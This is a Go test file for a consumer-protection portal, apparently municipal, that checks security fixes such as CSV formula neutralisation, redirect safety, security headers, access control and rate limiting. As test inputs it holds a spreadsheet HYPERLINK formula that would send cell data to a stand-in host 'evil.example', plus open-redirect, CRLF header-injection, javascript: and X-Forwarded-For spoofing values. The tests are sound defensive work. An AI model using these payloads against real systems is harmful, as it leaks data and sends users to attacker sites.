package app_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hzcbec/portal/models"
	"github.com/hzcbec/portal/models/clock"
)

// Issue 12, smaller points: a product category that a spreadsheet would run as a formula is
// written to the public statistics CSV as text.
func TestStatisticsCSVNeutralisesFormulas(t *testing.T) {
	ts := startServer(t, nil)
	inspector := ts.token(t, "inspector")
	formula := `=HYPERLINK("http://evil.example/?"&A1,"open")`
	product := "csv-product-" + randomSuffix(t)
	exec(t, ts, `INSERT INTO products (id, name, brand, category, origin_country) VALUES (?, '表格测试', 'X', ?, 'CN')`, product, formula)
	inspection := map[string]any{"product_id": product, "kind": "market", "sampled_at": "2026-03-02T10:00:00+08:00",
		"conclusion": "conformant", "items": []map[string]any{{"name": "外观", "standard": "GB 1", "value": "ok", "unit": "", "limit": "ok", "verdict": "pass"}}}
	ts.created(t, "/api/v1/inspections", inspector, inspection)
	refreshStats(t, ts)

	r := ts.do(t, "GET", "/api/v1/public/stats?format=csv", "", nil)
	records, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
	if r.Status != 200 || err != nil {
		t.Fatalf("CSV: %d %v", r.Status, err)
	}
	found := false
	for _, rec := range records {
		for _, cell := range rec {
			if strings.Contains(cell, "HYPERLINK") {
				found = true
				if cell != "'"+formula {
					t.Errorf("the category is written as %q, want it behind an apostrophe", cell)
				}
			}
			if cell != "" && strings.ContainsRune("=+@", rune(cell[0])) {
				t.Errorf("a cell a spreadsheet would run: %q", cell)
			}
		}
	}
	if !found {
		t.Fatal("the category is not in the CSV")
	}
}

// Issue 12, smaller points: "back" after a form never leaves the site, also not by a backslash
// (browsers read "/\evil.example" as "//evil.example").
func TestLanguageSwitchStaysOnTheSite(t *testing.T) {
	ts := startServer(t, nil)
	for _, back := range []string{"/\\evil.example", "//evil.example", "https://evil.example/", "/\\/evil.example",
		"\\\\evil.example", "/%0d%0aLocation:%20https://evil.example", "javascript:alert(1)", "/ok\r\nX: y"} {
		r := ts.form(t, "/lang", "", url.Values{"lang": {"en"}, "back": {back}})
		if loc := r.Header.Get("Location"); r.Status != 303 || (loc != "/" && !strings.HasPrefix(loc, "/%")) {
			t.Errorf("back=%q: %d to %q, want the home page", back, r.Status, loc)
		}
	}
	if r := ts.form(t, "/lang", "", url.Values{"lang": {"en"}, "back": {"/complaints?status=filed"}}); r.Header.Get("Location") != "/complaints?status=filed" {
		t.Errorf("a page of the site: %q", r.Header.Get("Location"))
	}
}

// Issue 12, smaller points: pages and answers carry a Content-Security-Policy that allows no
// script and no framing, a Referrer-Policy, and HSTS once the portal is served over HTTPS.
func TestSecurityHeaders(t *testing.T) {
	ts := startServer(t, nil)
	for _, path := range []string{"/", "/signin", "/api/v1/jurisdictions"} {
		r := ts.do(t, "GET", path, "", nil)
		csp := r.Header.Get("Content-Security-Policy")
		for _, want := range []string{"frame-ancestors 'none'", "script-src 'none'", "default-src 'self'", "form-action 'self'"} {
			if !strings.Contains(csp, want) {
				t.Errorf("%s: Content-Security-Policy %q lacks %s", path, csp, want)
			}
		}
		if r.Header.Get("Referrer-Policy") == "" || r.Header.Get("X-Frame-Options") != "DENY" || r.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: headers %v", path, r.Header)
		}
		if r.Header.Get("Strict-Transport-Security") != "" {
			t.Errorf("%s: HSTS over plain HTTP without PORTAL_SECURE_COOKIES", path)
		}
	}
	secure := startServer(t, map[string]string{"PORTAL_SECURE_COOKIES": "true"})
	if hsts := secure.do(t, "GET", "/", "", nil).Header.Get("Strict-Transport-Security"); !strings.HasPrefix(hsts, "max-age=") {
		t.Errorf("HSTS with PORTAL_SECURE_COOKIES: %q", hsts)
	}
}

// Issue 12, smaller points: /readyz tells the public only whether the portal is ready; an admin
// also sees each check. /metrics is the admin's.
func TestReadinessDetailsAndMetricsAreForAdmins(t *testing.T) {
	ts := startServer(t, nil)
	public := ts.do(t, "GET", "/readyz", "", nil).json(t)
	if _, has := public["checks"]; has || public["ready"] != true {
		t.Errorf("the public's readiness: %v, want only ready", public)
	}
	admin := ts.do(t, "GET", "/readyz", ts.token(t, "admin"), nil).json(t)
	if checks, _ := admin["checks"].(map[string]any); checks["database"] != "ok" || checks["search"] != "ok" {
		t.Errorf("the admin's readiness: %v", admin)
	}
	if r := ts.do(t, "GET", "/metrics", "", nil); r.Status != 401 {
		t.Errorf("/metrics to the public: %d", r.Status)
	}
	if r := ts.do(t, "GET", "/metrics", ts.token(t, "admin"), nil); r.Status != 200 || !strings.Contains(string(r.Body), "# TYPE") {
		t.Errorf("/metrics to an admin: %d", r.Status)
	}
}

// Issue 12, smaller points: two admins deciding one appeal at once both applied. Of 10 parallel
// decisions exactly one applies; the others find it decided (409).
func TestParallelAppealDecisionsApplyOnce(t *testing.T) {
	ts := startServer(t, nil)
	inspector, merchant, admin := ts.token(t, "inspector"), ts.token(t, "merchant"), ts.token(t, "admin")
	entry := ts.created(t, "/api/v1/negative-list", inspector, map[string]any{"party_id": "demo-merchant", "reason": "多次销售不合格产品"})["id"].(string)
	appeal := ts.created(t, "/api/v1/negative-list/"+entry+"/appeals", merchant, map[string]any{"grounds": "已全部整改"})["id"].(string)
	var wg sync.WaitGroup
	statuses := make(chan int, 10)
	for i := 0; i < 10; i++ {
		decision := []string{"granted", "denied"}[i%2]
		wg.Add(1)
		go func() {
			defer wg.Done()
			statuses <- ts.do(t, "POST", "/api/v1/appeals/"+appeal+"/decision", admin, map[string]any{"decision": decision, "reason": "审查"}).Status
		}()
	}
	wg.Wait()
	close(statuses)
	count := map[int]int{}
	for s := range statuses {
		count[s]++
	}
	if count[200] != 1 || count[409] != 9 {
		t.Fatalf("10 parallel decisions: %v, want one 200 and nine 409", count)
	}
	if n := ts.count(t, "audit_records", "action LIKE 'negative_list.appeal\\_%' AND after->>'appeal_id' = ?", appeal); n != 1 {
		t.Errorf("%d decisions of one appeal were audited, want 1", n)
	}
}

// Issue 12, smaller points: anonymisation edited the award's JSON text, so a claimant named `"`
// broke the document and /public/rulings answered 500. It anonymises the award's values now.
func TestRulingsOfAClaimantNamedAQuote(t *testing.T) {
	ts := startServer(t, nil)
	consumer := ts.token(t, "consumer")
	k := ts.created(t, "/api/v1/cases", consumer, map[string]any{"respondent_id": "demo-merchant", "amount": "10.00", "currency": "CNY",
		"claim": "退款", "agreement": "仲裁条款"})
	exec(t, ts, `UPDATE users SET name = '"' WHERE id = ?`, ts.users["consumer"].ID)
	exec(t, ts, `UPDATE cases SET status = 'published', published_at = now(),
		award = '{"outcome": "upheld", "reasoning": "申请人\" 提交的证据成立，联系电话 13812345678。"}' WHERE id = ?`, k["id"])
	r := ts.do(t, "GET", "/api/v1/public/rulings", "", nil)
	if r.Status != 200 {
		t.Fatalf("public rulings: %d %s", r.Status, r.Body)
	}
	items := r.json(t)["items"].([]any)
	award := items[0].(map[string]any)["award"].(map[string]any)
	if award["outcome"] != "upheld" || strings.Contains(award["reasoning"].(string), `"`) || strings.Contains(award["reasoning"].(string), "13812345678") {
		t.Errorf("the published award: %v", award)
	}
}

// Issue 12, smaller points: 10 000 messages on one complaint came back in one answer. Messages
// and timelines come in pages of at most 100, and one user may post 30 messages a minute.
func TestMessagesAndTimelinesComeInPages(t *testing.T) {
	ts := startServer(t, nil)
	consumer := ts.token(t, "consumer")
	id := fileComplaint(t, ts, consumer)
	exec(t, ts, `INSERT INTO messages (id, kind, record_id, author_id, relation, body, created_at)
		SELECT gen_random_uuid()::text, 'complaints', ?, ?, 'complainant', '第 ' || n || ' 条', now() FROM generate_series(1, 10000) n`,
		id, ts.users["consumer"].ID)
	exec(t, ts, `INSERT INTO workflow_events (kind, record_id, action, actor_id, relation, from_state, to_state, payload)
		SELECT 'complaints', ?, 'message', ?, 'complainant', 'filed', 'filed', '{}' FROM generate_series(1, 250)`, id, ts.users["consumer"].ID)
	for _, list := range []struct {
		path string
		want int
	}{{"/messages", 10000}, {"/timeline", 251}} {
		seen, pages, cursor := 0, 0, ""
		for {
			r := ts.do(t, "GET", "/api/v1/complaints/"+id+list.path+"?limit=100&cursor="+cursor, consumer, nil)
			if r.Status != 200 {
				t.Fatalf("%s: %d %s", list.path, r.Status, r.Body)
			}
			page := r.json(t)
			items := page["items"].([]any)
			if len(items) > 100 {
				t.Fatalf("%s: a page of %d", list.path, len(items))
			}
			seen, pages = seen+len(items), pages+1
			next, _ := page["next_cursor"].(string)
			if next == "" {
				break
			}
			cursor = next
		}
		if seen != list.want || pages != (list.want+99)/100 {
			t.Errorf("%s: %d items in %d pages, want %d", list.path, seen, pages, list.want)
		}
	}
	if r := ts.do(t, "GET", "/api/v1/complaints/"+id+"/messages?limit=1000", consumer, nil); r.Status != 422 {
		t.Errorf("a page of 1000: %d, want 422", r.Status)
	}
	statuses := map[int]int{}
	for i := 0; i < 31; i++ {
		statuses[ts.do(t, "POST", "/api/v1/complaints/"+id+"/messages", consumer, map[string]any{"body": "催促"}).Status]++
	}
	if statuses[201] != 30 || statuses[429] != 1 {
		t.Errorf("31 messages in a minute: %v, want 30 posted and the last refused", statuses)
	}
}

// Issue 12, smaller points: a respondent could object to arbitrators without limit and so stall
// a case for ever. Each side objects to one arbitrator once.
func TestOneObjectionPerSideAndArbitrator(t *testing.T) {
	ts := startServer(t, nil)
	consumer, merchant, arbitrator := ts.token(t, "consumer"), ts.token(t, "merchant"), ts.token(t, "arbitrator")
	id := ts.created(t, "/api/v1/cases", consumer, map[string]any{"respondent_id": "demo-merchant", "amount": "10.00",
		"currency": "CNY", "claim": "退款", "agreement": "仲裁条款"})["id"].(string)
	caseAct(t, ts, arbitrator, id, "accept", nil, 200)
	caseAct(t, ts, merchant, id, "submit_defence", map[string]any{"defence": "无"}, 200)
	first := map[string]any{"arbitrator_id": ts.users["arbitrator"].ID}
	objection := map[string]any{"reason": "与申请人相识"}
	caseAct(t, ts, arbitrator, id, "appoint", first, 200)
	caseAct(t, ts, merchant, id, "object_to_arbitrator", objection, 200)
	caseAct(t, ts, arbitrator, id, "appoint", first, 200)
	caseAct(t, ts, merchant, id, "object_to_arbitrator", objection, 409)
	caseAct(t, ts, consumer, id, "object_to_arbitrator", objection, 200) // the other side may, once
	otherID, _ := newArbitrator(t, ts, "objected-"+randomSuffix(t)+"@example.com", nil)
	caseAct(t, ts, arbitrator, id, "appoint", map[string]any{"arbitrator_id": otherID}, 200)
	caseAct(t, ts, merchant, id, "object_to_arbitrator", objection, 200) // another arbitrator, once
}

// Issue 12, smaller points: any inspector could order measures against, or list, a party of any
// district. An inspector acts on the parties of their own district, parties of no Hangzhou
// district, and those whose case another district handed to theirs.
func TestInspectorsActOnTheirOwnDistrictsParties(t *testing.T) {
	ts := startServer(t, nil)
	xihu, binjiang := ts.token(t, "inspector"), otherInspector(t, ts, "330108")
	party := ts.created(t, "/api/v1/parties", binjiang, map[string]any{"kind": "merchant", "name": "滨江示例商户 " + randomSuffix(t),
		"country": "CN", "jurisdiction": "330108"})["id"].(string)
	measure := map[string]any{"kind": "recall", "target_party_id": party, "deadline": clock.Day(time.Now().AddDate(0, 0, 10)), "basis": "召回"}
	listing := map[string]any{"party_id": party, "reason": "多次销售不合格产品"}
	if r := ts.do(t, "POST", "/api/v1/measures", xihu, measure); r.Status != 403 {
		t.Fatalf("a Xihu inspector orders a measure against a Binjiang party: %d %s", r.Status, r.Body)
	}
	if r := ts.do(t, "POST", "/api/v1/negative-list", xihu, listing); r.Status != 403 {
		t.Fatalf("a Xihu inspector lists a Binjiang party: %d %s", r.Status, r.Body)
	}
	// Handing the case to oneself gives no power; Binjiang handing it to Xihu does.
	handoff := map[string]any{"subject_type": "party", "subject_id": party, "jurisdiction": "330106", "reason": "属地查处"}
	ts.created(t, "/api/v1/handoffs", xihu, handoff)
	if r := ts.do(t, "POST", "/api/v1/measures", xihu, measure); r.Status != 403 {
		t.Fatalf("after handing the case to itself: %d", r.Status)
	}
	ts.created(t, "/api/v1/handoffs", binjiang, handoff)
	ts.created(t, "/api/v1/measures", xihu, measure)
	ts.created(t, "/api/v1/measures", binjiang, measure)
	ts.created(t, "/api/v1/negative-list", binjiang, listing)
}

// Issue 12: the audit log publishes signed checkpoints, and an admin gets an inclusion proof of
// any record that anyone with the published key can check.
func TestAuditCheckpointAndInclusionProof(t *testing.T) {
	ts := startServer(t, nil)
	admin := ts.token(t, "admin")
	fileComplaint(t, ts, ts.token(t, "consumer"))
	v := ts.do(t, "GET", "/api/v1/admin/audit?verify=true&limit=1", admin, nil).json(t)
	if v["verified"] != true || v["checkpoints"].(float64) < 1 {
		t.Fatalf("verification: %v", v)
	}
	cp := ts.do(t, "GET", "/api/v1/public/audit/checkpoint", "", nil)
	if cp.Status != 200 || !strings.HasPrefix(cp.Header.Get("Content-Type"), "text/plain") ||
		!strings.HasPrefix(string(cp.Body), models.AuditOrigin+"\n") || !strings.Contains(string(cp.Body), "\n\n— ") {
		t.Fatalf("checkpoint: %d %s", cp.Status, cp.Body)
	}
	key := ts.do(t, "GET", "/api/v1/public/audit/key", "", nil)
	id := int64(v["items"].([]any)[0].(map[string]any)["id"].(float64))
	r := ts.do(t, "GET", fmt.Sprintf("/api/v1/admin/audit/%d/proof", id), admin, nil)
	if r.Status != 200 {
		t.Fatalf("proof: %d %s", r.Status, r.Body)
	}
	var proof models.AuditProof
	if err := json.Unmarshal(r.Body, &proof); err != nil {
		t.Fatal(err)
	}
	if err := models.CheckAuditProof(&proof, string(key.Body)); err != nil {
		t.Fatalf("the proof does not check with the published key: %v\n%s", err, r.Body)
	}
}

// Issue 12, seen 3: behind a proxy the per-address limit was one budget for everyone. Only a
// proxy named in PORTAL_TRUSTED_PROXIES is believed about the client's address.
func TestTrustedProxiesNameTheClient(t *testing.T) {
	tries := func(ts *testServer, client string) int {
		status := 0
		for i := 0; i < 4; i++ {
			status = ts.do(t, "POST", "/api/v1/auth/login", "", map[string]any{"email": "nobody@example.com", "password": "whatever it is"},
				"X-Forwarded-For", client).Status
		}
		return status
	}
	behind := startServer(t, map[string]string{"PORTAL_AUTH_RATE": "3", "PORTAL_TRUSTED_PROXIES": "127.0.0.1"})
	if s := tries(behind, "198.51.100.1"); s != 429 {
		t.Fatalf("a client's 4th sign-in in a minute through the proxy: %d, want 429", s)
	}
	if s := behind.do(t, "POST", "/api/v1/auth/login", "", map[string]any{"email": "nobody@example.com", "password": "whatever it is"},
		"X-Forwarded-For", "198.51.100.2").Status; s != 401 {
		t.Fatalf("another client behind the same proxy: %d, want its own budget (401)", s)
	}
	// A client cannot pose as another by putting an address before the one its proxy appends.
	if s := behind.do(t, "POST", "/api/v1/auth/login", "", map[string]any{"email": "nobody@example.com", "password": "whatever it is"},
		"X-Forwarded-For", "203.0.113.77, 198.51.100.1").Status; s != 429 {
		t.Fatalf("a spoofed leftmost address escaped the budget of the address the proxy saw: %d", s)
	}
	direct := startServer(t, map[string]string{"PORTAL_AUTH_RATE": "3"})
	for i, client := range []string{"203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.4"} {
		s := direct.do(t, "POST", "/api/v1/auth/login", "", map[string]any{"email": "nobody@example.com", "password": "whatever it is"},
			"X-Forwarded-For", client).Status
		if i == 3 && s != 429 {
			t.Fatalf("an X-Forwarded-For from an untrusted peer was believed: the 4th try got %d", s)
		}
	}
}

// An upload retried under its Idempotency-Key (a new multipart boundary, the same file) gets the
// first answer and stores one file; another file under the same key is 422.
func TestUploadRetriedUnderItsKey(t *testing.T) {
	ts := startServer(t, nil)
	consumer := ts.token(t, "consumer")
	id := fileComplaint(t, ts, consumer)
	path := "/api/v1/complaints/" + id + "/evidence"
	first := ts.uploadFile(t, path, consumer, "photo.png", "image/png", pngBytes(t), "Idempotency-Key", "upload-1")
	again := ts.uploadFile(t, path, consumer, "photo.png", "image/png", pngBytes(t), "Idempotency-Key", "upload-1")
	if first.Status != 201 || again.Status != 201 || again.Header.Get("Idempotent-Replayed") != "true" || string(first.Body) != string(again.Body) {
		t.Fatalf("the retry: %d %s / %d %v %s", first.Status, first.Body, again.Status, again.Header, again.Body)
	}
	if n := ts.count(t, "evidence", "record_id = ?", id); n != 1 {
		t.Fatalf("%d files stored for one upload retried", n)
	}
	other := append(pngBytes(t), 0)
	wantInvalid(t, "another file under the same key", ts.uploadFile(t, path, consumer, "photo.png", "image/png", other, "Idempotency-Key", "upload-1"), "Idempotency-Key")
}

// A stay a rule proposed does not stand in the way of an inspector's decision: it becomes it.
func TestInspectorDecisionConfirmsAProposal(t *testing.T) {
	ts := startServer(t, nil)
	exec(t, ts, `INSERT INTO negative_list_entries (id, party_id, basis, reason, entered_by, entered_at) VALUES ('proposal-1', 'demo-merchant', 'low_score', 'credit score below 40', 'system', now())`)
	if items := ts.do(t, "GET", "/api/v1/public/negative-list", "", nil).json(t)["items"].([]any); len(items) != 0 {
		t.Fatalf("a proposal is public: %v", items)
	}
	e := ts.created(t, "/api/v1/negative-list", ts.token(t, "inspector"), map[string]any{"party_id": "demo-merchant", "reason": "多次销售不合格产品"})
	if e["id"] != "proposal-1" || e["basis"] != "decision" || e["confirmed_at"] == nil {
		t.Fatalf("the inspector's decision: %v", e)
	}
	if items := ts.do(t, "GET", "/api/v1/public/negative-list", "", nil).json(t)["items"].([]any); len(items) != 1 {
		t.Fatalf("the decision is not public: %v", items)
	}
}

// Every page names its icon, and the icon is there: a browser asks for nothing that answers 404.
func TestPagesNameAnIconThatExists(t *testing.T) {
	ts := startServer(t, nil)
	for _, path := range []string{"/", "/signin", "/alerts"} {
		page := ts.do(t, "GET", path, "", nil, "Accept", "text/html")
		if page.Status != 200 || !strings.Contains(string(page.Body), `<link rel="icon" href="/static/favicon.svg" type="image/svg+xml">`) {
			t.Fatalf("%s: %d, names no icon", path, page.Status)
		}
	}
	icon := ts.do(t, "GET", "/static/favicon.svg", "", nil)
	if icon.Status != 200 || !strings.HasPrefix(icon.Header.Get("Content-Type"), "image/svg+xml") || !strings.Contains(string(icon.Body), "<svg") {
		t.Fatalf("the icon: %d %q", icon.Status, icon.Header.Get("Content-Type"))
	}
}
